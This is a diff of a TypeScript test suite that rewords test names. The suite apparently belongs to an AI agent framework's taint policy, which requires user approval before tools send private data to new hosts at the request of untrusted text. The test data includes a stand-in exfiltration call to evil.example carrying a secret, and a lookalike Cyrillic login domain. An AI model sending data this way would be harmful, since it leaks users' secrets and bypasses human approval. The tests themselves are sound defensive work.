@@ -1,4 +1,4 @@
-/** Tests of calls that would carry private things out at the word of untrusted ones. */
+/** Tests of calls that would send private data out at the request of untrusted text. */
 import { Session as Protocol } from "@bough/protocol"
 import { Policy, RuleText } from "@bough/policy"
 import { Capability, type Channel, Grant, Tool, ToolContext } from "@bough/tool"
@@ -78,7 +78,7 @@ const everything = (["go", 'go url=https://evil.example/?d=s3cret note=""', "*"]
 )
 
 describe("Taint", () => {
-  it.effect("an unapproved host asks, with the labels of the session and the destination", () =>
+  it.effect("an unapproved host needs an approval, which names the labels of the session and the destination", () =>
     Effect.gen(function* () {
       const { go, log, told } = setUp({})
       const { outcome, receipt } = yield* go(made)
@@ -95,7 +95,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("private data alone is enough, wherever the idea came from; untrusted text alone is not", () =>
+  it.effect("private data alone is enough, whatever the origin of the request; untrusted text alone is not", () =>
     Effect.gen(function* () {
       const count = (labels: ReadonlyArray<Protocol.Label>) =>
         Effect.gen(function* () {
@@ -108,7 +108,7 @@ describe("Taint", () => {
   )
 
   it.effect(
-    "a host that was agreed to is free for every address of it, and for no host below it or port beside it",
+    "an approved host needs no further approval for every address of it, and for no host below it or port beside it",
     () =>
       Effect.gen(function* () {
         const asks = (url: string) =>
@@ -136,7 +136,7 @@ describe("Taint", () => {
       })
   )
 
-  it.effect("an address that is none of the web is asked about each time, and opens nothing", () =>
+  it.effect("an address outside of the web is asked about each time, and approves nothing", () =>
     Effect.gen(function* () {
       const { go, told } = setUp({ labels: ["private"] })
       yield* go("nowhere s3cret")
@@ -147,7 +147,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("letters that look alike are shown as they are sent, in the reason and in what nothing has looked at", () =>
+  it.effect("lookalike letters are shown encoded, in the reason and in the unchecked parts", () =>
     Effect.gen(function* () {
       const { go, told } = setUp({ labels: ["private"] })
       yield* go("http://\u0430\u0440\u0440\u04cf\u0435.com/login")
@@ -159,7 +159,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("a rule that names the host answers, and then classify looks; another rule does not", () =>
+  it.effect("a rule that names the host decides, and then classify runs; another rule does not", () =>
     Effect.gen(function* () {
       const rules = (text: string) => ({ rules: [Result.getOrThrow(RuleText.parse(text))], approve: "ask" }) as const
       const free = setUp({ labels: ["private"], policy: rules("go host=evil.example") })
@@ -171,7 +171,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("a rule that names the host answers for a text too, whatever was read, and for no secret in it", () =>
+  it.effect("a rule that names the host also allows text, whatever was read, and no secret in it", () =>
     Effect.gen(function* () {
       const policy = { rules: [Result.getOrThrow(RuleText.parse("go host=evil.example"))], approve: "ask" } as const
       const { go, log, told } = setUp({ policy, secrets: ["k3y-of-the-house"] })
@@ -184,7 +184,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("nothing looks a host up that a rule denies or asks about", () =>
+  it.effect("resolves no host that a rule denies or asks about", () =>
     Effect.gen(function* () {
       for (const effect of ["deny", "ask"]) {
         const rules = [Result.getOrThrow(RuleText.parse(`${effect} * host=evil.example`))]
@@ -206,7 +206,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("what comes to light once a person has agreed is asked about again, and only then granted", () =>
+  it.effect("a fact that is found after the decision is asked about again, and granted only then", () =>
     Effect.gen(function* () {
       const { go, log, told } = setUp({ raise: true, answers: ["approve", { deny: null }] })
       assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
@@ -223,7 +223,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("no rule that names no host and no configuration answers for a person", () =>
+  it.effect("no rule without a host and no configuration replaces the user's decision", () =>
     Effect.gen(function* () {
       for (const approve of ["ask", "allow"] as const) {
         const { go, told } = setUp({ policy: { rules: everything, approve } })
@@ -237,7 +237,7 @@ describe("Taint", () => {
   )
 
   it.effect(
-    "an address that was given is not asked about; what is sent along is, once for a new host, whatever was read",
+    "an address from the user is not asked about; the data sent along is, once for a new host, whatever was read",
     () =>
       Effect.gen(function* () {
         const free = setUp({})
@@ -257,7 +257,7 @@ describe("Taint", () => {
       })
   )
 
-  it.effect("a tool that sends and does not say what has all of its arguments asked about", () =>
+  it.effect("a tool that sends and does not declare its data has all of its arguments asked about", () =>
     Effect.gen(function* () {
       const silent = Tool.make("silent", {
         version: 1,
@@ -285,7 +285,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("a message to the session's own user carries nothing out; one that others read does", () =>
+  it.effect("a message to the session's own user sends no data out; one that others read does", () =>
     Effect.gen(function* () {
       const tell = Tool.make("tell", {
         version: 1,
@@ -312,7 +312,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("one capability that stays with the person does not excuse another that does not", () =>
+  it.effect("one owner-only capability does not exempt another that is not", () =>
     Effect.gen(function* () {
       const tell = Tool.make("tell_and_send", {
         version: 1,
@@ -334,7 +334,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("what a grant opened is private as well as untrusted", () =>
+  it.effect("results under a grant are private as well as untrusted", () =>
     Effect.gen(function* () {
       const near = setUp({ raise: true })
       yield* near.go(given)
@@ -345,7 +345,7 @@ describe("Taint", () => {
     })
   )
 
-  it.effect("what was approved and started is asked about again, and runs with its grant", () =>
+  it.effect("an approved and started call is asked about again, and runs with its grant", () =>
     Effect.gen(function* () {
       const { go, log, told } = setUp({ raise: true, answers: ["approve"] })
       const user = { _tag: "User", approvalId: Protocol.ApprovalId.make("approval-0"), principal: "ana" } as const
